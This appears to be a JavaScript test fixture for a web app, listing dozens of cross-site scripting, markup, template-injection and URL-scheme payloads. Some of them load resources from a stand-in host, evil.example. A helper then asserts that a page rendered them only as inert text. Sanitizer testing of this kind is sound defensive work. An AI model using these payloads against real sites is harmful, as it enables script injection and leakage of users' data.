// Text that tries to be more than text.
import assert from 'node:assert/strict';

/** Each sets `pwned`, or asks another host for something, if it is taken for anything but text. */
export const PAYLOADS = [
  ...['<script>pwned=1</script>', '<img src=x onerror=pwned=1>', '<svg onload=pwned=1>', '<svg><script>pwned=1</script></svg>', '<iframe srcdoc="<script>parent.pwned=1</script>">',
    '<iframe src="javascript:parent.pwned=1">', '<body onload=pwned=1>', '<input autofocus onfocus=pwned=1>', '<details open ontoggle=pwned=1>', '<video><source onerror=pwned=1></video>',
    '<audio src=x onerror=pwned=1>', '<object data="javascript:pwned=1">', '<embed src="javascript:pwned=1">', '<form action="javascript:pwned=1"><button>x</button></form>', '<a href="javascript:pwned=1">x</a>',
    '<math><mi xlink:href="javascript:pwned=1">x</mi></math>', '<style>@import "//evil.example/x.css";</style>', '<link rel=stylesheet href=//evil.example/x.css>', '<base href=//evil.example/>', '<meta http-equiv=refresh content="0;url=//evil.example/">',
    '<img src=//evil.example/pixel.gif>', '<img srcset="//evil.example/p 2x">', '<template><script>pwned=1</script></template>', '<noscript><p title="</noscript><img src=x onerror=pwned=1>">', '<marquee onstart=pwned=1>'],
  ...['"><script>pwned=1</script>', '\'><img src=x onerror=pwned=1>', '" onmouseover="pwned=1', "' autofocus onfocus='pwned=1", '--><script>pwned=1</script>', ']]><script>pwned=1</script>',
    '</title><script>pwned=1</script>', '</textarea><script>pwned=1</script>', '</script><script>pwned=1</script>', '<!--<script>pwned=1</script>-->', '<scr<script>ipt>pwned=1</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<%00script>pwned=1</script>', '&lt;script&gt;pwned=1&lt;/script&gt;', '&#60;script&#62;pwned=1&#60;/script&#62;', '\\u003cscript\\u003epwned=1\\u003c/script\\u003e', '＜script＞pwned=1＜/script＞'],
  ...['javascript:pwned=1', 'JaVaScRiPt:pwned=1', 'java\tscript:pwned=1', 'data:text/html,<script>pwned=1</script>', 'vbscript:pwned=1', 'https://evil.example/"onmouseover="pwned=1', 'https://evil.example/<script>pwned=1</script>',
    'http://javascript:pwned=1@evil.example/', 'https://evil.example\u202e/gpj.exe', 'mailto:x@evil.example?body="><script>pwned=1</script>', '[x](javascript:pwned=1)', '![x](//evil.example/p.gif)'],
  ...['${pwned=1}', '{{constructor.constructor("pwned=1")()}}', '<%= pwned=1 %>', '#{pwned=1}', '__proto__', '?lit$123$', '<!--?lit$-->', 'constructor', '\u202eevil', '%assets%'],
];

export const oneLine = text => text.replaceAll('\t', ' ');

/** One look at everything a page shows: nothing ran, and every link is one that a person may follow. */
export async function look(page) {
  const found = await page.evaluate(() => ({
    pwned: 'pwned' in window,
    links: [...document.querySelectorAll('a[href]')].map(link => /** @type {HTMLAnchorElement} */ (link).protocol),
    foreign: document.querySelectorAll('sd-app :is(script, iframe, object, embed, style, link, meta, base, img, video, audio)').length,
  }));
  assert.equal(found.pwned, false);
  assert.equal(found.foreign, 0);
  assert.deepEqual(found.links.filter(protocol => !['http:', 'https:', 'mailto:', 'tel:'].includes(protocol)), []);
}
